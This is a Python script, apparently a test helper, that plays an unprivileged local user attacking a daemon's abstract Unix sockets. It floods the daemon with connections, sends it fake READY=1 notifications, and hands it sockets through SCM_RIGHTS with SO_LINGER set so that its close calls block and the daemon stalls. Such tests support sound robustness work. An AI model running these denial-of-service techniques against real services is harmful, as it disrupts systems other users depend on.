"""Attacks of another local user on the daemon's abstract sockets: attack.py UID NAME MODE [NUMBER]

It begins as root, becomes UID, prints "ready" when the attack is under way, and goes on until it is killed.
"""

import array
import os
import resource
import socket
import struct
import sys
import threading
import time


def lingering(seconds):
    """A socket whose last close blocks for so long; nobody reads at its other end."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    client = socket.socket()
    client.connect(listener.getsockname())
    client.setblocking(False)
    try:
        while True:
            client.send(b"x" * 65536)
    except BlockingIOError:
        pass
    client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, seconds))
    return listener, client


def give_away(way, message, client):
    """Sends the last reference to a socket. The copy here is gone before the receiver can have closed its own."""
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [client.fileno()]))]
    fd = client.detach()
    try:
        way.sendmsg([message], rights)
    finally:
        # A close of a copy that is not the last never blocks; if it is the last, this process waits.
        threading.Thread(target=os.close, args=(fd,), daemon=True).start()


def connect(name, kind=socket.SOCK_SEQPACKET):
    way = socket.socket(socket.AF_UNIX, kind)
    # A daemon that the attack has stopped takes nothing any more.
    way.settimeout(1)
    way.connect("\0" + name)
    return way


def flood(name, number):
    kept = []
    for _ in range(number):
        try:
            kept.append(connect(name))
        except OSError:
            break
    print("ready", flush=True)
    while True:
        # What was closed is opened again.
        time.sleep(0.05)
        for at, way in enumerate(kept):
            try:
                way.setblocking(False)
                if way.recv(1) == b"":
                    kept[at] = connect(name)
            except BlockingIOError:
                pass
            except OSError:
                pass


def linger(name, seconds, message=b"garbage", kind=socket.SOCK_SEQPACKET):
    kept, count = [], 0
    while True:
        listener, client = lingering(seconds)
        kept.append(listener)
        try:
            give_away(connect(name, kind), message, client)
        except OSError:
            pass
        count += 1
        if count == 8:
            print("ready", flush=True)
        time.sleep(0.05 if count < 200 else 1)


def ready(name, _):
    way = connect(name, socket.SOCK_DGRAM)
    way.send(b"READY=1")
    print("ready", flush=True)
    time.sleep(20)


if __name__ == "__main__":
    uid, name, mode = int(sys.argv[1]), sys.argv[2], sys.argv[3]
    number = int(sys.argv[4]) if len(sys.argv) > 4 else 0
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    if uid:
        os.setgroups([])
        os.setgid(uid)
        os.setuid(uid)
    if mode == "notify-linger":
        linger(name, number, b"STATUS=x", socket.SOCK_DGRAM)
    elif mode == "request-linger":
        # In the form of a request.
        linger(name, number, struct.pack("HHI", 1, 1, os.getpid()) + bytes(48))
    else:
        {"flood": flood, "linger": linger, "ready": ready}[mode](name, number)
